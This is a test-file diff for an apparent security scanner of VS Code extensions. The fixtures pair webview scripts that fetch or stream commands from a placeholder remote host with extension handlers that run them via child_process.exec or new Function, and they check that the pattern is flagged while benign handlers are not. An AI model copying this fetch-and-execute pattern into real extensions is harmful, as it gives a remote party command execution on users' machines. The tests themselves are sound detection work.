@@ -176,3 +176,52 @@ def test_scripts_of_a_text_are_joined() -> None:
         " type=application/json>{}</script>"
     )
     assert scripts_in(text) == "f()\n;g()"
+
+
+ANSWERS = {
+    "fetch": (
+        "const host = acquireVsCodeApi(); setInterval(async () => {"
+        f'const r = await fetch("{TO}"); host.postMessage({{ run: await r.text() }}); }}, 9e5);'
+    ),
+    "then": (
+        f'const host = acquireVsCodeApi(); fetch("{TO}").then((r) => r.json())'
+        ".then((run) => host.postMessage({ run }));"
+    ),
+    "socket": (
+        "const host = acquireVsCodeApi(); const line = new WebSocket('wss://a.example.invalid/x');"
+        "line.onmessage = (e) => host.postMessage({ run: e.data });"
+    ),
+}
+RUNS = 'panel.webview.onDidReceiveMessage((m) => require("child_process").exec(m.run));'
+RUNS_BY_NAME = (
+    "const handlers = { go(m) { require('child_process').exec(m.run); } };"
+    "panel.webview.onDidReceiveMessage((m) => handlers[m.kind]?.(m));"
+)
+EVALUATES = "panel.webview.onDidReceiveMessage(({ run }) => new Function(run)());"
+HONEST_RUNS = (
+    'panel.webview.onDidReceiveMessage((m) => require("child_process").exec("npm i " + m.run));',
+    "panel.webview.onDidReceiveMessage((m) => terminal.sendText(m.run));",
+    "panel.webview.onDidReceiveMessage((m) => vscode.window.showInformationMessage(m.run));",
+)
+
+
+@pytest.mark.parametrize("runs", [RUNS, RUNS_BY_NAME, EVALUATES])
+@pytest.mark.parametrize("script", ANSWERS.values(), ids=ANSWERS)
+def test_what_a_page_is_answered_and_the_extension_runs_is_found(script: str, runs: str) -> None:
+    """The page hands on the answer of another host, and the program runs it."""
+    assert _rules(_extension(script, runs))["network-code"] is Severity.HIGH
+
+
+@pytest.mark.parametrize("runs", [*HONEST_RUNS, ""])
+@pytest.mark.parametrize("script", ANSWERS.values(), ids=ANSWERS)
+def test_an_answer_that_a_page_hands_on_may_be_used_otherwise(script: str, runs: str) -> None:
+    """It is shown, typed for the user to see, or the argument of a known command."""
+    assert "network-code" not in _rules(_extension(script, runs))
+
+
+def test_a_command_that_the_user_gives_a_page_is_not_found() -> None:
+    """The page sends what is typed into it."""
+    script = (
+        "const host = acquireVsCodeApi(); go.onclick = () => host.postMessage({ run: q.value });"
+    )
+    assert "network-code" not in _rules(_extension(script, RUNS))
